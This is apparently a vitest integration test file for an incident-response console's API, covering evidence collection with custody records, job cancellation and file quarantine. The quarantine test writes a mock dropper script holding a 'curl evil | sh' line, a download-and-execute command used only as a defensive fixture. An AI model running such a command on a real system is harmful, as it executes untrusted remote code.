import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PushedEvent } from '../../src-main/contract';
import { apiCall, serveConsole, tempDataDir, type ServedConsole } from '../support/consoleServer';

const work = tempDataDir('firebreak-evidence-api-');
let served: ServedConsole;
// The id of the latest job, from its progress events (a cancel needs it while the call is pending).
let lastJobId: string | undefined;

beforeAll(async () => {
  fs.mkdirSync(path.join(work, 'logs'));
  fs.writeFileSync(path.join(work, 'logs', 'auth.log'), 'Failed password for admin\n'.repeat(1000));
  served = await serveConsole(path.join(work, 'data'));
  const response = await fetch(`${served.origin}/api/events`, { headers: { authorization: `Bearer ${served.token}` } });
  void (async () => {
    const reader = response.body!.pipeThrough(new TextDecoderStream()).getReader();
    for (;;) {
      const { value, done } = await reader.read().catch(() => ({ value: undefined, done: true }));
      if (done) return;
      const match = /"type":"job\.progress","jobId":"([0-9a-f-]{36})"/.exec(value ?? '');
      if (match) lastJobId = match[1];
    }
  })();
});
afterAll(async () => {
  await served.stop();
  fs.rmSync(work, { recursive: true, force: true });
});

/** Reads pushed events for as long as `during` runs. */
async function eventsDuring<T>(during: () => Promise<T>): Promise<{ result: T; events: PushedEvent[] }> {
  const controller = new AbortController();
  const response = await fetch(`${served.origin}/api/events`, { headers: { authorization: `Bearer ${served.token}` }, signal: controller.signal });
  const reader = response.body!.pipeThrough(new TextDecoderStream()).getReader();
  const events: PushedEvent[] = [];
  const reading = (async () => {
    let buffer = '';
    try {
      for (;;) {
        const { value, done } = await reader.read();
        if (done) return;
        buffer += value;
        const frames = buffer.split('\n\n');
        buffer = frames.pop()!;
        for (const frame of frames) if (frame.startsWith('data: ')) events.push(JSON.parse(frame.slice(6)) as PushedEvent);
      }
    } catch {
      // aborted
    }
  })();
  const result = await during();
  await new Promise((resolve) => setTimeout(resolve, 100));
  controller.abort();
  await reading;
  return { result, events };
}

describe('evidence over the console API', () => {
  it('collects with progress events, lists with custody, verifies, and records custody', async () => {
    const incident = (await apiCall(served, 'incident.declare', { title: 'Evidence over HTTP', severity: 'P2' })).body.value;
    const output = path.join(work, 'out', 'api.tar.gz');
    const { result, events } = await eventsDuring(() => apiCall(served, 'evidence.collect', { paths: [path.join(work, 'logs')], output, incidentId: incident.id }));
    expect(result.status).toBe(200);
    const collected = result.body.value;
    expect(collected).toMatchObject({ evidenceId: expect.stringMatching(/^EV-/), archive: output, totals: { files: 1 }, problems: [] });
    expect(events.filter((event) => event.type === 'job.progress' && event.jobId === collected.jobId).length).toBeGreaterThan(0);

    expect((await apiCall(served, 'evidence.addCustody', { evidenceId: collected.evidenceId, action: 'copied', detail: 'to the legal share' })).status).toBe(200);
    const verified = await apiCall(served, 'evidence.verify', { archive: output });
    expect(verified.body.value).toMatchObject({ intact: true, entriesChecked: 1 });
    const [item] = (await apiCall(served, 'evidence.list', { incidentId: incident.id })).body.value.items;
    expect(item.custody.map((entry: { action: string }) => entry.action)).toEqual(['collected', 'copied', 'verified']);
    expect((await apiCall(served, 'evidence.addCustody', { evidenceId: collected.evidenceId, action: 'lost' })).body.error).toMatchObject({ code: 'invalid-input', fields: [{ field: 'action' }] });
  });

  it('cancels a running collection and leaves no archive behind', async () => {
    fs.mkdirSync(path.join(work, 'disk'));
    fs.writeFileSync(path.join(work, 'disk', 'image.raw'), '');
    fs.truncateSync(path.join(work, 'disk', 'image.raw'), 3 * 1024 ** 3);
    const output = path.join(work, 'out', 'cancelled.tar.gz');
    lastJobId = undefined;
    const { result } = await eventsDuring(async () => {
      const pending = apiCall(served, 'evidence.collect', { paths: [path.join(work, 'disk')], output });
      // Wait for the first progress event's job id, then cancel that job.
      let jobId: string | undefined;
      for (let i = 0; i < 100 && !jobId; i += 1) {
        await new Promise((resolve) => setTimeout(resolve, 50));
        jobId = lastJobId;
      }
      expect((await apiCall(served, 'jobs.cancel', { jobId })).body.value).toEqual({ cancelled: true });
      return pending;
    });
    expect(result.body).toMatchObject({ ok: false, error: { code: 'cancelled' } });
    expect(fs.readdirSync(path.join(work, 'out')).filter((name) => name.startsWith('cancelled'))).toEqual([]);
  });

  it('quarantines and releases over the API', async () => {
    const file = path.join(work, 'dropper.sh');
    fs.writeFileSync(file, 'curl evil | sh', { mode: 0o755 });
    const added = (await apiCall(served, 'quarantine.add', { file })).body.value;
    expect(fs.existsSync(file)).toBe(false);
    expect((await apiCall(served, 'quarantine.list', {})).body.value.files.map((entry: { id: string }) => entry.id)).toEqual([added.id]);
    expect((await apiCall(served, 'quarantine.release', { id: added.id })).body.value.releasedAt).toEqual(expect.any(String));
    expect(fs.statSync(file).mode & 0o777).toBe(0o755);
  });
});
